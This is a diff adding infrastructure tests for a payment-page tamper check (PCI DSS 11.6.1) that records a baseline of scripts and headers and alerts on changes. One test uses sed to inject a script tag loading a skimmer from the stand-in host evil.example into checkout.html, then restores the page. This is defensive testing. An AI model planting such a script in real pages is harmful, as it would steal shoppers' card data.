@@ -109,3 +109,43 @@ def test_json_access_log_and_untrusted_forwarded_for(host):
 def test_health_checks_not_logged(host):
     _status(host, "http://127.0.0.1/health")
     assert '"path":"/health"' not in host.file(ACCESS_LOG).content_string
+
+
+PAGE = "/srv/backend/checkout.html"
+CHECK_LOG = "/var/log/gearlift/payment-page.log"
+
+
+def _check(host):
+    """Run the payment page check as its timer does; (unit succeeded, the line it logged)."""
+    ok = host.run("systemctl start gearlift-payment-page-check.service").rc == 0
+    return ok, host.check_output(f"tail -n 1 {CHECK_LOG}")
+
+
+def test_payment_page_check_scheduled(host):
+    """PCI DSS 11.6.1: the timer is enabled and running; the check's settings name the page and the log."""
+    timer = host.service("gearlift-payment-page-check.timer")
+    assert timer.is_enabled and timer.is_running
+    settings = json.loads(host.file("/etc/gearlift/payment-page-check.json").content_string)
+    assert settings["url"] == "http://127.0.0.1:80/checkout.html"
+    assert settings["log"] == CHECK_LOG and "content-security-policy" in settings["headers"]
+
+
+def test_payment_page_check_alerts_on_a_new_script_and_is_ok_again_when_restored(host):
+    """The first run records the baseline; an added script tag is PAYMENT_PAGE_CHANGED (the unit fails, the
+    payment-page log group's metric filter alarms on the line); the page as before is OK again."""
+    host.run(f"cp -p {PAGE} {PAGE}.orig && rm -f /var/lib/gearlift/payment-page/baseline.json")
+    try:
+        ok, line = _check(host)
+        assert ok and "PAYMENT_PAGE_BASELINE recorded" in line, line
+        inventory = json.loads(host.check_output("gearlift-payment-page-check --print"))["inventory"]
+        assert {"src": "https://js.processor.example/v3", "integrity": "sha384-test"} in inventory["scripts"]
+        assert "https://js.processor.example" in inventory["headers"]["content-security-policy"]
+        ok, line = _check(host)
+        assert ok and "PAYMENT_PAGE_OK" in line, line
+        host.run(f"sed -i 's|</body>|<script src=\"https://evil.example/skim.js\"></script></body>|' {PAGE}")
+        ok, line = _check(host)
+        assert not ok and "PAYMENT_PAGE_CHANGED" in line and "evil.example/skim.js" in line, line
+    finally:
+        host.run(f"mv {PAGE}.orig {PAGE}")
+    ok, line = _check(host)
+    assert ok and "PAYMENT_PAGE_OK" in line, line
